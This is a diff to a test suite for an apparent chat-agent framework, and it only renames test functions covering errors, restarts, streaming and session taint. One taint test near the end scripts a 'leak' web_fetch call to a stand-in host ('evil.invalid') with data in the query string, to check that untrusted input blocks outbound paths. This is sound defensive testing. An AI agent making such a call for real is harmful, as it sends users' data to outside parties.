@@ -49,7 +49,7 @@ async def test_history_outbox_and_turn_are_committed_together(tmp_path: Path) ->
         assert numbers == [(1,), (2,), (3,), (4,)]
 
 
-async def test_an_error_of_the_model_is_told_with_its_code(tmp_path: Path) -> None:
+async def test_model_error_is_reported_with_its_code(tmp_path: Path) -> None:
     owner = chat_message("").principal
     script = [Rejected("the key is wrong"), "better"]
     async with running(tmp_path, script, owner=owner) as parts:
@@ -61,7 +61,7 @@ async def test_an_error_of_the_model_is_told_with_its_code(tmp_path: Path) -> No
 
 
 @pytest.mark.parametrize("is_group", [True, False])
-async def test_an_error_tells_others_than_the_owner_no_details(
+async def test_error_details_are_shown_only_to_the_owner(
     tmp_path: Path, is_group: bool, caplog: pytest.LogCaptureFixture
 ) -> None:
     question = chat_message("go", private=not is_group)
@@ -79,7 +79,7 @@ async def test_an_error_tells_others_than_the_owner_no_details(
     assert "no credit at 10.0.0.7" in caplog.text
 
 
-async def test_every_request_continues_the_one_before(tmp_path: Path) -> None:
+async def test_every_request_extends_the_previous_one(tmp_path: Path) -> None:
     from agent.providers.scripted import ScriptedProvider
 
     model = ScriptedProvider(["one", assistant("", (append("1", "x"),)), "two", "three"])
@@ -112,7 +112,7 @@ class Cut:
     async def aclose(self) -> None: ...
 
 
-async def test_a_tool_that_has_run_is_not_run_again_after_a_kill(tmp_path: Path) -> None:
+async def test_completed_tool_is_not_run_again_after_a_kill(tmp_path: Path) -> None:
     model = Cut(append("1", "once"))
     async with running(tmp_path, model) as parts:
         await accept_messages(parts, chat_message("go"))
@@ -123,7 +123,7 @@ async def test_a_tool_that_has_run_is_not_run_again_after_a_kill(tmp_path: Path)
         assert (parts.workspace / "log.txt").read_text() == "once\n"
 
 
-async def test_an_unsafe_call_that_had_started_is_reported_as_unknown(tmp_path: Path) -> None:
+async def test_started_unsafe_call_is_reported_as_unknown(tmp_path: Path) -> None:
     model = Cut(append("1", "once"), append("2", "twice"))
     async with running(tmp_path, model) as parts:
         await accept_messages(parts, chat_message("go"))
@@ -138,7 +138,7 @@ async def test_an_unsafe_call_that_had_started_is_reported_as_unknown(tmp_path: 
         assert (parts.workspace / "log.txt").read_text() == "once\ntwice\n"
 
 
-async def test_a_drained_turn_rests_before_its_next_tool_and_goes_on_later(tmp_path: Path) -> None:
+async def test_drained_turn_pauses_before_its_next_tool_and_resumes(tmp_path: Path) -> None:
     class Pausing(Gated):
         async def stream(self, request: ModelRequest) -> AsyncIterator[ModelEvent]:
             async for event in super().stream(request):
@@ -178,7 +178,7 @@ async def test_watchers_see_the_turn_and_its_end(tmp_path: Path) -> None:
     assert "".join(e.text for e in seen if isinstance(e, TextDelta)) == "hello you"
 
 
-async def test_a_long_answer_is_one_message_that_grows(tmp_path: Path) -> None:
+async def test_long_answer_is_one_growing_message(tmp_path: Path) -> None:
     platform, model = StreamingPlatform(), Gated()
     async with running(tmp_path, model, platform=platform) as parts:
         await accept_messages(parts, chat_message("tell me"))
@@ -195,7 +195,7 @@ async def test_a_long_answer_is_one_message_that_grows(tmp_path: Path) -> None:
         assert shown.text == "re: tell me"
 
 
-async def test_a_short_answer_is_a_single_send(tmp_path: Path) -> None:
+async def test_short_answer_is_a_single_send(tmp_path: Path) -> None:
     platform = StreamingPlatform()
     async with running(tmp_path, ["quick"], platform=platform) as parts:
         await accept_messages(parts, chat_message("hi"))
@@ -203,7 +203,7 @@ async def test_a_short_answer_is_a_single_send(tmp_path: Path) -> None:
     assert [kind for kind, _, _ in platform.calls if kind != "typing"] == ["send"]
 
 
-async def test_an_answer_whose_preview_was_shown_before_a_kill_is_an_edit_of_it(
+async def test_answer_edits_a_preview_shown_before_a_kill(
     tmp_path: Path,
 ) -> None:
     platform, model = StreamingPlatform(), Gated()
@@ -217,7 +217,7 @@ async def test_an_answer_whose_preview_was_shown_before_a_kill_is_an_edit_of_it(
     assert (shown.text, shown.repeat) == ("re: tell me", False)
 
 
-async def test_an_answer_whose_preview_was_lost_in_a_kill_is_marked(tmp_path: Path) -> None:
+async def test_answer_after_a_preview_lost_in_a_kill_is_marked(tmp_path: Path) -> None:
     platform, model = StreamingPlatform(), Gated()
     async with running(tmp_path, model, platform=platform) as parts:
         # As if the process were killed between the send and the update of the message id.
@@ -234,7 +234,7 @@ async def test_an_answer_whose_preview_was_lost_in_a_kill_is_marked(tmp_path: Pa
     assert (final.text, final.repeat) == ("re: tell me", True)
 
 
-async def test_an_answer_whose_preview_may_have_arrived_is_marked(tmp_path: Path) -> None:
+async def test_answer_after_an_ambiguous_preview_is_marked(tmp_path: Path) -> None:
     platform, model = StreamingPlatform(), Gated()
     platform.preview_faults.append(Fault(Ambiguous("reset"), arrives=True))
     async with running(tmp_path, model, platform=platform) as parts:
@@ -259,7 +259,7 @@ async def test_session_taint_is_stored_and_listed(tmp_path: Path) -> None:
         assert [",".join(sorted(message.taint)) for message in results] == [t for (t,) in brought]
 
 
-async def test_a_strangers_words_taint_the_session_at_once(tmp_path: Path) -> None:
+async def test_untrusted_text_taints_the_session_at_once(tmp_path: Path) -> None:
     async with running(tmp_path, ["hello"]) as parts:
         await accept_messages(parts, chat_message("go"))
         await parts.platform.answers("1", 1)
@@ -267,7 +267,7 @@ async def test_a_strangers_words_taint_the_session_at_once(tmp_path: Path) -> No
         assert info.taint == "untrusted"
 
 
-async def test_taint_of_an_earlier_turn_closes_the_ways_out_of_a_later_one(tmp_path: Path) -> None:
+async def test_taint_of_an_earlier_turn_restricts_a_later_one(tmp_path: Path) -> None:
     read = tool_call("1", "read_file", path="log.txt")
     leak = tool_call("2", "web_fetch", url="http://evil.invalid/?d=1")
     replies = [assistant("", (append("0", "x"), read)), "one", assistant("", (leak,)), "two"]
@@ -334,7 +334,7 @@ class Hanging(type(Path())):  # type: ignore[misc]
         return str(self)
 
 
-async def test_a_folder_that_hangs_holds_up_no_other_chat_and_its_own_is_told_once(
+async def test_hanging_folder_delays_no_other_chat_and_is_reported_once(
     tmp_path: Path,
 ) -> None:
     model = Gated(is_open=lambda _: True)
